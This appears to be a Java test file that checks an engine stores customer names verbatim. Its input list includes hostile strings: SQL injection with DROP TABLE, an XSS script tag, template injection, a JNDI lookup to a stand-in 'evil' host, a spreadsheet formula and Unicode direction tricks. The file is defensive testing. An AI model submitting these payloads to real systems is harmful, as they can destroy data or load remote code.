package io.engage.engine.hostile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.engage.engine.Api;
import io.engage.engine.EngineTest;
import java.time.Duration;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * Text that looks hostile but is a legitimate name (injection strings, markup, 4-byte emoji,
 * joiners, right-to-left scripts) is stored and read back exactly, never interpreted.
 */
class VerbatimTextTest extends EngineTest {

  @LocalServerPort int port;
  Api api;

  @BeforeEach
  void setUp() {
    api = new Api(port);
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "Robert'); DROP TABLE customer;--", "' OR 1=1 --", "<script>alert('x')</script>", "{{ 7*7 }} {% include 'x' %}",
      "${jndi:ldap://evil/a}", "😀 李娜 𠀋", "👨‍👩‍👧", "محمد\u200F", "abc\u202Edef", "a\u200Bb", "e\u0301\u0301\u0301",
      "=HYPERLINK(\"http://x\")", "line one\nline two"})
  void aNameIsStoredAndReadBackExactly(String name) {
    String id = "c-verbatim-" + Integer.toHexString(name.hashCode());
    ObjectNode event = JsonNodeFactory.instance.objectNode()
        .put("eventId", "verbatim-" + Integer.toHexString(name.hashCode()))
        .put("customerId", id).put("type", "customer.registered").put("occurredAt", "2026-11-20T10:00:00Z");
    event.putObject("data").put("name", name);

    Api.Response accepted = api.postEvents(event.toString());
    assertThat(accepted.status()).as(accepted.body()).isBetween(200, 202);

    await().atMost(Duration.ofSeconds(30)).until(() -> api.getAs("admin", "/api/customers/" + id).status() == 200);
    Api.Response profile = api.getAs("admin", "/api/customers/" + id);
    assertThat(profile.json().findValuesAsText("name")).contains(name);
  }
}
